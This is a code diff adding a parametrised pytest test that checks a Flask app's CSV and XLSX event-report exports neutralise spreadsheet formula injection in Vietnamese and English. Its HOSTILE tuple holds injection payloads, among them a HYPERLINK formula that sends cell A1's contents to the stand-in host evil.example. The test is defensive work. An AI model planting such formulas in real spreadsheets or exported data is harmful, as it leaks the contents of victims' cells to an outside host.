@@ -95,3 +95,41 @@ def test_the_workbook_is_in_the_readers_language_with_numbers_kept(app: Flask) -
     # Sorted by name (in Vietnamese "u" comes before "ư"), the total last.
     assert [row[0] for row in summary[1:]] == ["Chuỗi siêu thị", "Chưa rõ", "Tổng cộng"]
     assert summary[-1][1] == 1
+
+
+HOSTILE = ('=HYPERLINK("https://evil.example/?x="&A1,"Bấm vào")', "+1+2", "-2+3", "@SUM(A1)",
+           "\t=1+1", "\r=1+1")  # fmt: skip
+
+
+def _hostile_report() -> EventReport:
+    rows = [
+        {**ROW, "event": text, "producer": text, "buyer": text, "table": text, "meeting_id": n}
+        for n, text in enumerate(HOSTILE)
+    ]
+    report = _report()
+    report.rows = rows
+    report.by_province[HOSTILE[0]] = Figures(meetings=1)
+    return report
+
+
+def _is_inert(text: str) -> bool:
+    return not text.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+@pytest.mark.parametrize("language", ["vi", "en"])
+def test_no_exported_cell_is_a_formula(app: Flask, language: str) -> None:
+    with force_locale(language):
+        text = to_csv(_hostile_report(), say)
+        workbook = load_workbook(io.BytesIO(to_xlsx(_hostile_report(), say)))
+    cells = [cell for line in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in line]
+    assert all(_is_inert(cell) for cell in cells), [c for c in cells if not _is_inert(c)]
+    for name in HOSTILE:
+        assert "'" + name in cells  # shown as the text it is, not dropped
+    for sheet in workbook.worksheets:
+        for line in sheet.iter_rows():
+            for cell in line:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    assert _is_inert(cell.value), (sheet.title, cell.coordinate, cell.value)
+    values = [c.value for line in workbook.worksheets[0].iter_rows() for c in line]
+    assert "'" + HOSTILE[0] in values and 120_000_000 in values
